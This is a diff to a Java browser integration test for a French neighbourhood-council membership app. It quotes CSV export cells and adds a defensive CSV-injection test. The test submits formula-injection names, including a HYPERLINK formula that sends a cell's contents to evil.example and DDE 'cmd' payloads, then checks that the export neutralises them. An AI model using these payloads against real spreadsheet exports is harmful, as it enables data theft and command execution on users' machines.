@@ -111,8 +111,8 @@ class MembershipBrowserIT extends DeployedApplication {
                 .contains("Camille", email, "habitant·e", "Jardins partagés", "inscription confirmée");
         String csv = (String) ((JavascriptExecutor) moderator.driver()).executeAsyncScript(
                 "const done = arguments[arguments.length - 1]; fetch(document.getElementById('csv').href).then(r => r.text()).then(done);");
-        assertThat(csv).as("the second sign-up updated the pending one").startsWith("nom;e-mail;lien au quartier;groupes de travail;inscription;confirmation")
-                .contains("Camille Exemple;" + email + ";habitant·e;Jardins partagés;");
+        assertThat(csv).as("the second sign-up updated the pending one").startsWith("\"nom\";\"e-mail\";\"lien au quartier\";\"groupes de travail\";\"inscription\";\"confirmation\"")
+                .contains("\"Camille Exemple\";\"" + email + "\";\"habitant·e\";\"Jardins partagés\";");
         assertThat(((JavascriptExecutor) moderator.driver()).executeAsyncScript(
                 "const done = arguments[arguments.length - 1]; fetch(document.getElementById('csv').href)"
                         + ".then(r => r.arrayBuffer()).then(b => done(Array.from(new Uint8Array(b).slice(0, 3))));"))
@@ -167,6 +167,39 @@ class MembershipBrowserIT extends DeployedApplication {
         assertThat(http.get("membership/sign-up?council=conseils-de-quartier-citoyens", "text/html").statusCode())
                 .as("the demo assembly's councils take sign-ups").isEqualTo(200);
         assertThat(http.get("api/assemblies/" + council, "application/json").body()).doesNotContain("@example.org");
+    }
+
+    /** CSV injection (OWASP): a name typed as a formula reaches the moderators' spreadsheet as text. */
+    @Test
+    void aSignUpNamedLikeAFormulaReachesTheModeratorsExportAsText() throws Exception {
+        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&B2;\"Cliquez\")", "+33 6 12 34 56 78",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "Camille ;=1+1");
+        for (int i = 0; i < names.size(); i++) {
+            Browser browser = browser();
+            browser.open("membership/sign-up?council=" + council);
+            browser.find(By.id("name")).sendKeys(names.get(i));
+            browser.find(By.id("email")).sendKeys("formule-" + i + "-" + suffix + "@example.org");
+            setValue(browser, "birthDate", LocalDate.now().minusYears(30).toString());
+            ((JavascriptExecutor) browser.driver()).executeScript("document.querySelector(\"input[name='lien'][value='HABITANT']\").checked = true;"
+                    + " document.getElementById('consent').checked = true;");
+            browser.follow(browser.find(By.id("submit")));
+            assertThat(browser.find(By.id("sent")).getText()).isEqualTo("Vérifiez votre boîte de réception");
+        }
+
+        Browser moderator = StaffSignIn.signIn(url, http, "MODERATEUR", council);
+        browsers.add(moderator);
+        moderator.open("admin/members?space=" + council);
+        String csv = (String) ((JavascriptExecutor) moderator.driver()).executeAsyncScript(
+                "const done = arguments[arguments.length - 1]; fetch(document.getElementById('csv').href).then(r => r.text()).then(done);");
+        List<String> exported;
+        try (var parser = org.apache.commons.csv.CSVFormat.Builder.create(org.apache.commons.csv.CSVFormat.EXCEL).setDelimiter(';')
+                .setHeader().setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.replaceFirst("^\ufeff", "")))) {
+            exported = parser.getRecords().stream().map(r -> r.get("nom")).toList();
+        }
+
+        assertThat(exported).containsExactlyInAnyOrder("'" + names.get(0), "'" + names.get(1), "'" + names.get(2), "'" + names.get(3),
+                names.get(4));
+        assertThat(csv).as("the separator stays inside its quoted cell").contains("\"Camille ;=1+1\"");
     }
 
     private void signUpAgain(String address) {
